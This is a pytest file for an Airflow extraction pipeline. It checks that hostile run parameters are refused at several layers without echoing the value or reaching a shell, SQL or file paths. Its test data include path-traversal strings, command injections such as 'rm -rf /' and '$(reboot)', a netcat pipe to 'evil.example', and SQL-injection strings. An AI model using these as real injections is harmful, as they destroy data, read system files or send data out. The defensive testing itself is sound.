"""Hostile run parameters: ``dag_run.conf`` with path traversal, shell metacharacters, SQL, unknown keys.

Guarantees: Airflow itself refuses a run whose conf breaks the extraction DAG's Params (no run is created);
the ``validate_conf`` task, upstream of every practice task, refuses what Params let through (unknown
keys); the library validator refuses all of it with an error that names the field and rule, never the
value; and while a hostile conf is handled, nothing reaches a shell, an SQL connection or a path.
"""

import os
import sqlite3
import subprocess
import sys
from contextlib import contextmanager
from pathlib import Path
from types import SimpleNamespace

import pytest

from gpdata import settings
from gpdata.errors import ConfigError
from gpdata.ops import runparams
from gpdata.ops.airflow_env import REPO_ROOT, airflow_env

AIRFLOW = str(Path(sys.executable).with_name("airflow"))
HOSTILE_VALUES = [
    "../../../etc/passwd", "A81001/../../x", "/etc/shadow", "A81001; rm -rf /", "$(reboot)", "`id`",
    "A81001 | nc evil.example 80", "A8100&", "A81001' OR '1'='1", "A81001'; DROP TABLE dag_run; --",
    "A81001\n", "a81001", "A81001\x00", "９９９０００００１８", "9990000018", "A" * 100_000,
]
HOSTILE_CONFS = (
    [{"practices": [v]} for v in HOSTILE_VALUES]
    + [{"practices": v} for v in ("A81001", "../x", None, 5)]
    + [{"practices": ["A81001", "A81001"]}, {"practices": ["A81001"] * 1025}, {"practices": [["A81001"]]},
       {"force": "true"}, {"force": "$(reboot)"}, {"force": 1}]
)
UNKNOWN_KEYS = [{"store": "/tmp/elsewhere"}, {"location": "../../secrets"}, {"cmd": "rm -rf /"},
                {"sql": "DROP TABLE dag_run"}, {"../etc": 1}, {"9990000018": "x"}, {"practices": [], "extra": 1}]


def _strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for k, v in value.items():
            yield k
            yield from _strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from _strings(v)


_EVENTS: list[tuple[str, str]] | None = None
REACHING = ("subprocess", "os.system", "os.exec", "os.posix_spawn", "os.spawn", "sqlite3", "open", "os.",
            "shutil.", "socket.")


def _hook(event, args):
    if _EVENTS is not None and event.startswith(REACHING):
        _EVENTS.append((event, repr(args)))


sys.addaudithook(_hook)  # audit hooks cannot be removed; this one records only inside reaching()


@contextmanager
def reaching():
    """Every audit event (shell, process, file, SQL, socket) raised inside the block, as (event, args)."""
    global _EVENTS
    _EVENTS = []
    try:
        yield _EVENTS
    finally:
        _EVENTS = None


def _assert_refused_safely(conf, call):
    with reaching() as events, pytest.raises(ConfigError) as err:
        call(conf)
    message = str(err.value)
    assert message.startswith("dag_run.conf refused: field '"), message
    # Everything given, except a key that is a plain name (echoed so the operator sees which one is unknown).
    hostile = [s for s in _strings(conf) if s not in runparams.KEYS and len(s) > 2
               and not (s in conf and s.isidentifier() and s.islower())]
    for value in hostile:
        assert value not in message  # the error never repeats what was given
        assert not [e for e in events if value in e[1]], f"{value!r} reached {events}"
    assert not [e for e in events if e[0].startswith(("subprocess", "os.system", "os.exec", "os.posix_spawn",
                                                      "sqlite3", "socket."))], events
    return err.value


@pytest.mark.parametrize("conf", HOSTILE_CONFS + UNKNOWN_KEYS, ids=lambda c: repr(c)[:40])
def test_the_library_refuses_hostile_conf_without_touching_shell_sql_or_paths(conf):
    err = _assert_refused_safely(conf, runparams.validate)
    assert_no_leaks_in_text(str(err))


def test_valid_conf_is_accepted_and_selects_practices():
    assert runparams.validate(None) == runparams.RunConf()
    conf = runparams.validate({"practices": ["B82002"], "force": True})
    assert conf.select(["A81001", "B82002"]) == ["B82002"] and conf.force
    assert runparams.validate({}).select(["A81001", "B82002"]) == ["A81001", "B82002"]
    with pytest.raises(ConfigError, match="no active feed for C83003"):
        runparams.validate({"practices": ["C83003"]}).select(["A81001"])


@pytest.mark.parametrize("conf", UNKNOWN_KEYS + HOSTILE_CONFS[:6], ids=lambda c: repr(c)[:40])
def test_the_validate_conf_task_refuses_what_params_let_through(conf, monkeypatch):
    monkeypatch.syspath_prepend(str(REPO_ROOT / "plugins"))
    from gpdata_airflow.params import ValidateRunConfOperator

    task = ValidateRunConfOperator(task_id="validate_conf")
    _assert_refused_safely(conf, lambda c: task.execute({"dag_run": SimpleNamespace(conf=c)}))
    assert task.execute({"dag_run": SimpleNamespace(conf={"practices": ["A81001"]})}) == {
        "practices": ["A81001"], "force": False}


def assert_no_leaks_in_text(text):
    for nhs in ("9990000018", "999 000 0018"):
        assert nhs not in text


# ---- Airflow itself -------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def airflow(tmp_path_factory):
    home = tmp_path_factory.mktemp("airflow_params")
    (home / "feeds").mkdir()
    for ods in ("A81001", "B82002"):
        (home / "feeds" / f"{ods}.yaml").write_text(f"ods_code: {ods}\nname: P {ods}\nlocation: ../sources/{ods}\n")
    env = {k: v for k, v in os.environ.items() if not k.startswith(("AIRFLOW", "GPDATA"))}
    env["GPDATA_SECRETS_DIR"] = os.environ["GPDATA_SECRETS_DIR"]  # the test session's, never the checkout's
    env.update({"GPDATA_HOME": str(home), "GPDATA_FEEDS_DIR": str(home / "feeds")})
    env.update(airflow_env(settings.load(env)))
    subprocess.run([AIRFLOW, "db", "migrate"], env=env, capture_output=True, check=True, timeout=300)
    return home, env


def _dag_runs(home) -> int:
    with sqlite3.connect(home / "airflow" / "airflow.db") as db:
        return db.execute("select count(*) from dag_run").fetchone()[0]


def test_airflow_refuses_to_create_a_run_with_a_hostile_conf(airflow):
    """The real command line: Airflow validates the conf against the Params and creates no run."""
    home, env = airflow
    proc = subprocess.run([AIRFLOW, "dags", "test", "gpdata_extract", "--conf",
                           '{"practices": ["../../etc/passwd; rm -rf /"]}'], env=env,
                          capture_output=True, text=True, timeout=300)
    output = proc.stdout + proc.stderr
    assert proc.returncode != 0
    assert "Invalid input for param practices" in output, output[-3000:]
    assert _dag_runs(home) == 0  # refused before a run existed: no task, no path, no shell
    assert not (home / "store").exists() and not (home / "staging").exists()


def _extraction_dag(monkeypatch, env):
    monkeypatch.setenv("GPDATA_FEEDS_DIR", env["GPDATA_FEEDS_DIR"])
    monkeypatch.setenv("GPDATA_HOME", env["GPDATA_HOME"])
    monkeypatch.syspath_prepend(str(REPO_ROOT / "plugins"))
    from gpdata_airflow.dag_factory import build_extraction_dag

    return build_extraction_dag()


@pytest.fixture(scope="module")
def serialized_dag(airflow):
    with pytest.MonkeyPatch.context() as mp:
        dag = _extraction_dag(mp, airflow[1])
        from airflow.serialization.serialized_objects import DagSerialization

        return DagSerialization.from_dict(DagSerialization.to_dict(dag))


@pytest.mark.parametrize("conf", HOSTILE_CONFS, ids=lambda c: repr(c)[:40])
def test_airflow_params_refuse_every_hostile_value(conf, serialized_dag):
    """What the scheduler, the REST API and the trigger form run before creating a run
    (SerializedDAG.create_dagrun: params.deep_merge(conf).validate())."""
    from airflow.sdk.exceptions import ParamValidationError

    with pytest.raises(ParamValidationError, match="Invalid input for param (practices|force)"):
        serialized_dag.params.deep_merge(conf).validate()


def test_params_let_unknown_keys_through_so_validate_conf_runs_first(monkeypatch, airflow, serialized_dag):
    assert serialized_dag.params.deep_merge({"store": "/elsewhere"}).validate()["store"] == "/elsewhere"
    dag = _extraction_dag(monkeypatch, airflow[1])
    assert set(dag.params) == {"practices", "force"}
    downstream = dag.task_dict["validate_conf"].get_flat_relative_ids(upstream=False)
    practice_tasks = {t for t in dag.task_ids if t.startswith("practices_")}  # A81001, B82002: planned, then run
    assert len(practice_tasks) == 7 and practice_tasks | {"prepare_store"} <= downstream
    assert dag.task_dict["validate_conf"].upstream_task_ids == set()


def test_a_run_with_a_failed_task_is_not_marked_success(monkeypatch, airflow):
    dag = _extraction_dag(monkeypatch, airflow[1])
    leaves = [t for t in dag.tasks if not t.downstream_task_ids]
    # none_failed: a failed upstream fails the leaf (upstream_failed) as all_success would; a skipped one does not
    assert all(t.trigger_rule in ("all_success", "none_failed") for t in leaves), [
        (t.task_id, t.trigger_rule) for t in leaves]
    work = {t for t in dag.task_ids if t.endswith((".commit", ".chunk"))}
    assert work and all(work <= t.upstream_task_ids for t in leaves if t.trigger_rule == "none_failed")
